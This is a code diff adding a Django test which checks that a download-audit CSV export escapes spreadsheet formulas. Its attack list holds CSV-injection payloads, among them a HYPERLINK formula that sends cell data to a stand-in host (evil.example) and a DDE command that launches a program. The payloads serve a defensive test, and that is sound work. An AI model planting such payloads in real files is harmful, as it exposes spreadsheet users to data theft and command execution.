@@ -92,3 +92,29 @@ def test_partner_staff_cannot_open_the_audit(client, users):
 def test_editor_groups_may_view_ledger_and_audit(group):
     codenames = set(Group.objects.get(name=group).permissions.values_list("codename", flat=True))
     assert {"view_renderjob", "view_pdfversion", "view_downloadauditentry"} <= codenames
+
+
+def test_csv_export_hands_spreadsheets_no_formulas(client, users, handouts):
+    import csv
+    import io
+
+    page = handouts["restricted"]
+    attacks = [
+        '=HYPERLINK("https://evil.example/?d="&A1,"Anleitung")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\t=1+1",
+        "\r=1+1",
+    ]
+    for title in attacks:
+        DownloadAuditEntry.objects.create(
+            username="staff-a", page=page, page_title=title, version=1
+        )
+    client.force_login(users["editor"])
+    response = client.get("/admin/download-protokoll/", {"export": "csv"})
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    titles = {row[3] for row in rows[1:]}
+    assert titles == {"'" + title for title in attacks}
+    assert {row[4] for row in rows[1:]} == {"1"}, "numbers stay numbers"
